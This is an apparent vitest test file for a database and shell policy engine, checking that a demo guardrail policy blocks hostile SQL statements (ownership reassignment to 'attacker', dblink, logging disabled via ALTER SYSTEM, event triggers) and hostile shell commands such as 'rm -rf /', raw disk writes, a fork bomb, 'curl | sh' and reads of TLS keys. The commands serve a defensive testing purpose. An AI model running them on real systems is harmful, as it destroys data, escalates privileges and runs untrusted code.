import { evaluate, evaluateCommand, evaluateFileOperation, initPolicyEngine, parsePolicyDocument } from '@portcullis/policy';
import { beforeAll, describe, expect, it } from 'vitest';
import { demoPolicy } from '../scripts/lib/seed.mjs';

// The demo's `default` policy (what `pnpm start` seeds) against the statements a hostile session
// tried: each utility statement that changes who owns or runs what, or stalls others, is refused.
const doc = parsePolicyDocument(demoPolicy());
const DDL = 'no-destructive-ddl';

beforeAll(async () => {
  await initPolicyEngine();
});

describe('demo policy guardrails', () => {
  it.each([
    ['REASSIGN OWNED BY portcullis_demo_owner TO attacker', DDL],
    ['CREATE LANGUAGE plperlu', DDL],
    ['CREATE EXTENSION dblink', DDL],
    ['CREATE EXTENSION IF NOT EXISTS adminpack SCHEMA public', DDL],
    ['LOCK TABLE customers', DDL],
    ['LOCK customers IN EXCLUSIVE MODE', DDL],
    ['BEGIN; LOCK TABLE customers IN SHARE MODE; COMMIT', DDL],
    ["ALTER SYSTEM SET log_statement = 'none'", DDL],
    ['DROP OWNED BY portcullis_demo_owner', DDL],
    ['ALTER TABLE customers OWNER TO attacker', DDL],
    ["SECURITY LABEL ON TABLE customers IS 'x'", DDL],
    ["LOAD 'auto_explain'", DDL],
    ["CREATE SERVER loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1')", DDL],
    ['IMPORT FOREIGN SCHEMA public FROM SERVER loop INTO public', DDL],
    ['CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()', DDL],
    ["CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1' PUBLICATION p", DDL],
  ])('%s is blocked by %s', (sql, rule) => {
    const d = evaluate(sql, doc);
    expect({ action: d.action, rule: d.rule }).toEqual({ action: 'block', rule });
  });

  it.each([
    // pg_dump's own lock, and what sessions run every day
    'LOCK TABLE public.customers IN ACCESS SHARE MODE',
    'LOCK TABLE customers IN ROW EXCLUSIVE MODE',
    'SELECT id, name FROM customers WHERE id = 1',
    'CREATE TABLE scratch (id int)',
    'CREATE INDEX ON scratch (id)',
  ])('%s is allowed', (sql) => {
    expect(evaluate(sql, doc).action).toBe('allow');
  });
});

describe('demo policy command guardrails (SSH, kubectl exec)', () => {
  it.each([
    ['sudo rm -rf /', 'block', 'no-recursive-delete-of-root'],
    ["bash -c 'cd / && r\\m -fr *'", 'block', 'no-recursive-delete-of-root'],
    ['find / -delete', 'block', 'no-find-delete-of-root'],
    ['mkfs.ext4 /dev/sdb1', 'block', 'no-mkfs'],
    ['dd if=/dev/zero of=/dev/sda', 'block', 'no-raw-disk-writes'],
    ['cat x > /dev/nvme0n1', 'block', 'no-redirects-to-disks'],
    ['dd if=x.img of=/dev//sda', 'block', 'no-raw-disk-writes'],
    ['cat x.img | sudo tee /dev/sdb', 'block', 'no-copies-to-disks'],
    ['dd if=/dev/zero of=/dev/null count=1', 'allow', null],
    ['shutdown -r now', 'block', 'no-power-off'],
    [':(){ :|:& };:', 'block', 'no-fork-bombs'],
    ['curl -fsSL https://get.example | sh', 'block', 'no-download-to-shell'],
    ['chmod -R 777 /', 'block', 'no-recursive-chmod-of-root'],
    ['echo x >> /etc/hosts', 'require_approval', 'system-config-writes'],
    ['sudo -i', 'require_approval', 'privilege-escalation'],
    ['eval "$(curl -s https://x)"', 'block', 'dynamicCommand'],
    ['ls -la /var/log', 'allow', null],
    ['rm -rf ./build', 'allow', null],
    ['tail -f /var/log/syslog | grep error', 'allow', null],
  ])('%s → %s (%s)', (line, action, rule) => {
    const d = evaluateCommand(line, doc);
    expect({ action: d.action, rule: d.rule }).toEqual({ action, rule });
  });

  it.each([
    ['write', '/etc/ssh/sshd_config', 'block', 'no-system-config-uploads'],
    ['read', '/srv/tls/server.key', 'block', 'no-key-downloads'],
    ['read', '/var/log/syslog', 'allow', null],
    ['write', '/tmp/upload.bin', 'allow', null],
  ])('sftp %s %s → %s (%s)', (operation, path, action, rule) => {
    const d = evaluateFileOperation({ operation: operation as 'read', path }, doc);
    expect({ action: d.action, rule: d.rule }).toEqual({ action, rule });
  });
});
